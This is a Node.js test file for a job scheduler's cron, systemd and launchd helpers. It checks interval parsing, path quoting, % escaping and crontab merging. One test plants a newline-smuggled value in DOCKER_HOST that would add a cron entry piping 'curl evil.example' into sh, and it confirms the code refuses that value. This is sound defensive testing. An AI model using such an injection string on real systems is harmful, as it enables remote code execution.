// The pieces of a scheduled job that every scheduler shares: the interval each can express, the crontab
// line (quoted, with cron's % escaped) and how shipshape's line is found among a user's own.

import assert from 'node:assert/strict'
import { test } from 'node:test'
import { UsageError } from '../../lib/errors.js'
import { UnsafeValueError } from '../../lib/model/shell-quote.js'
import { configInLine, cronLine, mergeCrontab, ourLine } from '../../lib/schedule/cron.js'
import { configInPlist, launchAgentPlist } from '../../lib/schedule/launchd.js'
import { jobSpec, parseEvery } from '../../lib/schedule/spec.js'
import { configInService, serviceUnit } from '../../lib/schedule/systemd.js'

test('--every: what cron, systemd and launchd all express; anything else is a usage error', () => {
  assert.deepEqual([parseEvery('15m').cron, parseEvery('15m').seconds], ['*/15 * *', 900])
  assert.deepEqual([parseEvery('1h').cron, parseEvery('6h').onCalendar], ['0 * *', '*-*-* 00/6:00:00'])
  assert.deepEqual([parseEvery('1d').cron, parseEvery('1d').seconds], ['0 0 *', 86_400])
  for (const bad of ['7m', '60m', '5h', '2d', '0m', 'hourly', '']) assert.throws(() => parseEvery(bad), UsageError, bad)
})

test('the crontab line quotes paths with spaces and escapes %, which cron would turn into a newline', () => {
  const spec = jobSpec({ every: '30m', env: { PATH: '/opt/my tools/bin:/usr/bin' }, home: '/home/al ice', config: '/home/al ice/100%.yaml' })
  const line = cronLine(spec)
  // Through env: a quoted 'PATH=…' word is no assignment to sh, which would run it as a command.
  assert.match(line, /^\*\/30 \* \* \* \* \/usr\/bin\/env 'PATH=\/opt\/my tools\/bin:\/usr\/bin' 'HOME=\/home\/al ice' /)
  assert.match(line, /--config '\/home\/al ice\/100\\%\.yaml'/)
  assert.doesNotMatch(line.replace(/\\%/g, ''), /%/)
  assert.ok(ourLine(line))
})

test('merging the crontab replaces only shipshape\'s line and keeps a table without a final newline intact', () => {
  const spec = jobSpec({ every: '1h', env: { PATH: '/usr/bin' }, home: '/home/a' })
  const own = 'MAILTO=a@example.org\n0 1 * * * backup'
  const once = mergeCrontab(own, cronLine(spec))
  assert.equal(mergeCrontab(once, cronLine(spec)), once)
  assert.equal(mergeCrontab(once, null), `${own}\n`)
  assert.equal(mergeCrontab('', null), '')
})

test('systemd quoting: % and $ in paths are not specifiers or variables', () => {
  const unit = serviceUnit(jobSpec({ every: '1h', env: { PATH: '/usr/bin' }, home: '/home/a', config: '/srv/$HOME/50%.yaml' }))
  assert.match(unit, /"--config" "\/srv\/\$\$HOME\/50%%\.yaml"/)
})

test('schedule status reads back the --config each scheduler was given, however its path had to be quoted', () => {
  for (const config of ['/home/a/team/shipshape.yaml', `/srv/it's 100% $HOME & <x> \\ "q"/shipshape.yaml`]) {
    const spec = jobSpec({ every: '1h', env: { PATH: '/usr/bin' }, home: '/home/a', config, textfileDir: '/var/lib/x' })
    assert.equal(configInLine(cronLine(spec)), config)
    assert.equal(configInService(serviceUnit(spec)), config)
    assert.equal(configInPlist(launchAgentPlist(spec)), config)
  }
  const none = jobSpec({ every: '1h', env: { PATH: '/usr/bin' }, home: '/home/a' })
  assert.deepEqual([configInLine(cronLine(none)), configInService(serviceUnit(none)), configInPlist(launchAgentPlist(none))], [null, null, null])
})

test('a user\'s own line that mentions "# shipshape-doctor " is kept; only the exact marker is shipshape\'s', () => {
  const spec = jobSpec({ every: '1h', env: { PATH: '/usr/bin' }, home: '/home/a' })
  const mine = '0 3 * * * /home/a/bin/report # shipshape-doctor runs hourly, this one nightly'
  const also = '0 4 * * * echo done # shipshape-doctor'
  const merged = mergeCrontab(`${mine}\n${also}\n`, cronLine(spec))
  assert.equal(merged, `${mine}\n${also}\n${cronLine(spec)}\n`)
  assert.equal(mergeCrontab(merged, null), `${mine}\n${also}\n`)
  assert.equal(ourLine(`${mine}\n`), null)
})

test('a newline in a value baked into the crontab line is refused; it cannot form a second entry', () => {
  const spec = jobSpec({ every: '1h', env: { PATH: '/usr/bin', DOCKER_HOST: 'unix:///s\n* * * * * curl evil.example | sh' }, home: '/home/a' })
  assert.throws(() => cronLine(spec), (e: Error) => e instanceof UnsafeValueError && /^DOCKER_HOST holds a newline/.test(e.message))
  const cr = jobSpec({ every: '1h', env: { PATH: '/usr/bin', KUBECONFIG: '/k\r' }, home: '/home/a' })
  assert.throws(() => cronLine(cr), UnsafeValueError)
})
